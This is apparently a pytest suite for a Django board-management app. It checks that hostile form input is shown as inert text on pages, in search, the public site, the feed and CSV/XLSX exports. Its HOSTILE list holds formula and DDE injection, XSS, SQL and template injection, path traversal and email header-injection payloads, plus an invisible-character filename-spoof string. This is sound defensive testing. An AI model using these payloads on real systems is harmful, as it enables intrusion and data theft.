"""Hostile text goes in through the forms and comes out as text: page, public page, search, feed, open data, files.

The strings are representative rows of the collection of bad inputs (csv-37 to csv-39).
"""

import csv
import io
import zipfile
from dataclasses import dataclass, field
from html.parser import HTMLParser
from itertools import count
from typing import Any
from xml.etree import ElementTree

import pytest
from django.db import models
from django.test import Client
from django.urls import reverse
from python_calamine import CalamineWorkbook

from steerboard.platform.accounts.models import Person
from steerboard.platform.documents.models import Document
from steerboard.register.organisations.models import OrganisationVersion
from steerboard.stages.boards.models import Topic
from steerboard.stages.meetings.models import Meeting
from tests.factories import boards
from tests.interfaces.public.conftest import publish

pytestmark = pytest.mark.django_db

HOSTILE = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+84905123456",
    "@SUM(A1:A9)",
    "＝1+1",
    '=HYPERLINK("http://example.invalid/?x="&A1,"bấm")',
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[bấm](javascript:alert(1))",
    "<svg/onload=alert(1)>",
    "{{7*7}} {% debug %} ${7*7} #{7*7}",
    "'; DROP TABLE boards; --",
    "</textarea></title></script><b>",
    "\"><a href='//example.invalid'>x</a>",
    "&lt;b&gt; &amp;amp;",
    "../../etc/passwd",
    "x\r\nBcc: ai-do@example.invalid",
    "a" * 120,
    "((((((((((a+)+)+)+)+)+)+)+)+)+)+!",
)
_STARTS_FORMULA = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
_keys = count(1)


def _marked(nr: int) -> str:
    """A hostile string with a mark at its end by which it is found again."""
    return f"{HOSTILE[nr]} zq{nr:02d}"


def _one_line(text: str) -> str:
    return " ".join(text.split())


class Read(HTMLParser):
    """What a browser makes of a page: its text, its elements and their attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.pieces: list[str] = []
        self.feed(page)
        self.close()

    @property
    def text(self) -> str:
        return _one_line("".join(self.pieces))

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.pieces.append(data)

    def running(self) -> list[str]:
        """What would run, load or lead away: inline scripts, event handlers, active and foreign addresses."""
        found = []
        for tag, attributes in self.tags:
            if tag == "script" and not attributes.get("src"):
                found.append("inline script")
            for name, value in attributes.items():
                address = (value or "").strip().lower()
                if name.startswith("on"):
                    found.append(f"{tag} {name}")
                if name in {"href", "src", "action"} and (
                    address.startswith(("javascript:", "data:text")) or "example.invalid" in address.split("?")[0]
                ):
                    found.append(f"{tag} {name}={value}")
        return found


@dataclass
class Planted:
    """A board whose records of four kinds bear the hostile strings; `pks["topic"][nr]` bears `HOSTILE[nr]`."""

    kit: boards.BoardKit
    client: Client
    pks: dict[str, list[int]] = field(default_factory=dict)

    def page(self, name: str, *args: Any, **query: str) -> Read:
        answer = self.client.get(reverse(name, args=[self.kit.space.slug, *args]), query)
        assert answer.status_code == 200
        return Read(answer.content.decode())


def _forms(text: str, nr: int) -> dict[str, tuple[str, dict[str, str]]]:
    """What is planted → its form and what is typed into it."""
    return {
        "person": ("person_new", {"name": text, "honorific": "", "email": "", "language": "vi"}),
        "topic": (
            "boards-topic-new",
            {"field": "investment", "name": text, "reason": text, "valid_from": "1/2/2026"},
        ),
        "document": (
            "document_record_by_hand",
            {
                "type": "QĐ",
                "number": str(500 + nr),
                "symbol": "QĐ-UBND",
                "signed_on": "1/2/2026",
                "issuer": "Ủy ban nhân dân (minh họa)",
                "abstract": text,
                "visibility": "0",
                "step": "check",
            },
        ),
        "organisation": (
            "register_organisation_new",
            {"name": text, "kind": "association", "field": "other", "valid_from": "1/7/2025"},
        ),
    }


_STORED: dict[str, tuple[type[models.Model], str, str]] = {
    "person": (Person, "name", "pk"),
    "topic": (Topic, "name", "pk"),
    "document": (Document, "abstract", "pk"),
    "organisation": (OrganisationVersion, "name", "organisation_id"),
}

_LISTS = {"person": "people", "topic": "boards-topics", "document": "documents", "organisation": "register"}


@pytest.fixture
def planted() -> Planted:
    kit = boards.founded_board()
    made = Planted(kit, kit.client("secretary"))
    for nr in range(len(HOSTILE)):
        for what, (form, typed) in _forms(_marked(nr), nr).items():
            answer = made.client.post(reverse(form, args=[kit.space.slug]), {**typed, "_key": f"k{next(_keys)}"})
            assert answer.status_code == 302, (what, HOSTILE[nr], Read(answer.content.decode()).text[:2000])
            model, name, key = _STORED[what]
            row = model._base_manager.get(**{f"{name}__endswith": f" zq{nr:02d}"})
            # The proof that the string is really there, not a cleaned shadow of it.
            assert _one_line(getattr(row, name)) == _one_line(_marked(nr))
            made.pks.setdefault(what, []).append(getattr(row, key))
    return made


_PAGES = {
    "person": ("person", "person_edit"),
    "topic": ("boards-topic", "boards-topic-edit"),
    "document": ("document", "document_correct"),
    "organisation": ("register_organisation", "register_rename"),
}


def test_the_reader_of_pages_sees_what_runs() -> None:
    assert Read("<p onclick=x>a</p>").running() == ["p onclick"]
    assert Read("<script>alert(1)</script>").running() == ["inline script"]
    assert Read("<a href=' javascript:alert(1)'>").running() == ["a href= javascript:alert(1)"]
    assert Read("<img src=//example.invalid/x>").running() == ["img src=//example.invalid/x"]
    assert Read("<p>&lt;script&gt;</p><script src='/static/x.js'></script>").running() == []


@pytest.mark.parametrize("what", _PAGES)
def test_its_own_page_shows_it_as_text(planted: Planted, what: str) -> None:
    shown, changed = _PAGES[what]
    for nr, pk in enumerate(planted.pks[what]):
        page = planted.page(shown, pk)
        assert _one_line(_marked(nr)) in page.text
        assert page.running() == []
        form = planted.page(changed, pk)
        typed = {value for _tag, attributes in form.tags for value in attributes.values() if value}
        assert _one_line(_marked(nr)) in {_one_line(value) for value in typed} or _one_line(_marked(nr)) in form.text
        assert form.running() == []


@pytest.mark.parametrize("name", ["people", "documents", "boards-topics", "register", "search"])
def test_lists_and_search_show_it_as_text(planted: Planted, name: str) -> None:
    for nr in range(len(HOSTILE)):
        page = planted.page(name, q=f"zq{nr:02d}")
        assert _one_line(_marked(nr)) in page.text, HOSTILE[nr]
        assert page.running() == []
        again = planted.page(name, q=HOSTILE[nr])
        assert again.running() == []


def _published(planted: Planted) -> None:
    kit = planted.kit
    with kit.scope():
        kit.topics |= {f"hostile {pk}": Topic.objects.get(pk=pk) for pk in planted.pks["topic"]}
    publish(kit)
    for pk in planted.pks["document"]:
        address = reverse("document_publish", args=[kit.space.slug, pk])
        answer = planted.client.post(address, {"warnings_seen": "on", "_key": f"k{next(_keys)}"})
        assert answer.status_code == 302


def test_the_public_sees_it_as_text(planted: Planted) -> None:
    _published(planted)
    reader, slug = Client(), planted.kit.space.slug
    board = Read(reader.get(f"/p/{slug}/").content.decode())
    listed = ""
    for number in range(1, 4):
        page = Read(reader.get(f"/p/{slug}/documents/", {"page": str(number)}).content.decode())
        listed += page.text
        assert page.running() == []
    assert board.running() == []
    for nr, pk in enumerate(planted.pks["document"]):
        text = _one_line(_marked(nr))
        assert text in board.text
        assert text in listed
        own = Read(reader.get(f"/p/{slug}/documents/{pk}/").content.decode())
        assert text in own.text
        assert own.running() == []
        for words in (f"zq{nr:02d}", HOSTILE[nr]):
            found = Read(reader.get(f"/p/{slug}/search/", {"q": words}).content.decode())
            assert found.running() == []
            assert text in found.text or words == HOSTILE[nr]


def test_the_feed_is_sound_and_carries_it_as_text(planted: Planted) -> None:
    _published(planted)
    answer = Client().get(f"/p/{planted.kit.space.slug}/feed/")
    entries = ElementTree.fromstring(answer.content).iter("{http://www.w3.org/2005/Atom}title")
    titles = " ".join(_one_line(entry.text or "") for entry in entries)
    # The feed ends after its latest entries: what was published last is in it.
    for nr in range(len(HOSTILE) - 10, len(HOSTILE)):
        assert _one_line(_marked(nr)) in titles


def _cells(planted: Planted, name: str, form: str) -> list[Any]:
    answer = planted.client.get(reverse(name, args=[planted.kit.space.slug]), {"export": form})
    assert answer.status_code == 200
    assert "\n" not in answer["Content-Disposition"]
    body = b"".join(answer.streaming_content)
    if form == "csv":
        return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    with zipfile.ZipFile(io.BytesIO(body)) as book:
        for part in book.namelist():
            if part.startswith("xl/worksheets/"):
                sheet = {element.tag.rpartition("}")[2] for element in ElementTree.fromstring(book.read(part)).iter()}
                assert sheet.isdisjoint({"f", "hyperlink"})
    sheets = CalamineWorkbook.from_filelike(io.BytesIO(body))
    return [
        str(cell) for name in sheets.sheet_names for row in sheets.get_sheet_by_name(name).to_python() for cell in row
    ]


@pytest.mark.parametrize("form", ["csv", "xlsx"])
@pytest.mark.parametrize("name", ["people", "documents", "register"])
def test_files_carry_it_whole_and_no_spreadsheet_runs_it(planted: Planted, name: str, form: str) -> None:
    cells = _cells(planted, name, form)
    for nr in range(len(HOSTILE)):
        (cell,) = [cell for cell in cells if cell.endswith(f" zq{nr:02d}")]
        assert _one_line(cell.removeprefix("'")) == _one_line(_marked(nr).removeprefix("'"))
        if form == "csv":
            assert not cell.lstrip().startswith(_STARTS_FORMULA)


def test_open_data_runs_nothing(planted: Planted) -> None:
    _published(planted)
    address = f"/p/{planted.kit.space.slug}/open-data/topics.csv"
    rows = list(csv.DictReader(io.StringIO(Client().get(address).content.decode("utf-8-sig"))))
    names = [row["name"] for row in rows]
    for nr in range(len(HOSTILE)):
        (name,) = [name for name in names if name.endswith(f" zq{nr:02d}")]
        assert _one_line(name.removeprefix("'")) == _one_line(_marked(nr).removeprefix("'"))
    assert [cell for row in rows for cell in row.values() if cell.lstrip().startswith(_STARTS_FORMULA)] == []


# What turns the direction of writing, hides between letters or rings a bell; a line break would end a mail's head.
_INVISIBLE = "\u202e\u202a\u2066\u2069\u200b\u200e\ufeff\x07\x1b\x7f\x85\u2028\n"


def _meeting(text: str) -> dict[str, str]:
    return {"on": "1/2/2027", "begins": "", "place": text, "kind": "regular", "subject": text}


@pytest.mark.parametrize("what", [*_STORED, "meeting"])
def test_a_name_keeps_no_sign_that_turns_or_hides(what: str) -> None:
    kit = boards.founded_board()
    typed = f"{_INVISIBLE}gnp.{_INVISIBLE}exe{_INVISIBLE} zq99{_INVISIBLE}"
    forms = {**_forms(typed, 1), "meeting": ("meetings-new", _meeting(typed))}
    model, name, _key = {**_STORED, "meeting": (Meeting, "subject", "pk")}[what]
    form, values = forms[what]
    answer = kit.client("secretary").post(reverse(form, args=[kit.space.slug]), {**values, "_key": f"k{next(_keys)}"})
    assert answer.status_code == 302, Read(answer.content.decode()).text[:2000]
    kept = getattr(model._base_manager.get(**{f"{name}__endswith": " zq99"}), name)
    # What breaks a line is a blank, the rest is gone.
    assert kept == "gnp. exe zq99"
    assert set(kept).isdisjoint(_INVISIBLE)
    page = kit.client("secretary").get(reverse({**_LISTS, "meeting": "meetings"}[what], args=[kit.space.slug]))
    assert set(Read(page.content.decode()).text).isdisjoint(set(_INVISIBLE) - {"\n"})


@pytest.mark.parametrize("what", _STORED)
def test_a_nul_is_refused_beside_its_field(what: str) -> None:
    kit = boards.founded_board()
    model, name, _key = _STORED[what]
    rows = model._base_manager.count()
    form, typed = _forms("Tên\x00 (minh họa)", 1)[what]
    answer = kit.client("secretary").post(reverse(form, args=[kit.space.slug]), {**typed, "_key": f"k{next(_keys)}"})
    assert answer.status_code == 422
    assert name in answer.context["form"].errors
    assert model._base_manager.count() == rows


def test_a_nul_in_a_search_finds_nothing_calmly() -> None:
    kit = boards.founded_board()
    publish(kit)
    for client, address in (
        (kit.client("secretary"), kit.url("search/")),
        (kit.client("secretary"), kit.url("documents/")),
        (kit.client("secretary"), kit.url("people/")),
        (Client(), f"/p/{kit.space.slug}/search/"),
        (Client(), f"/p/{kit.space.slug}/documents/"),
    ):
        assert client.get(address, {"q": "a\x00b"}).status_code == 200
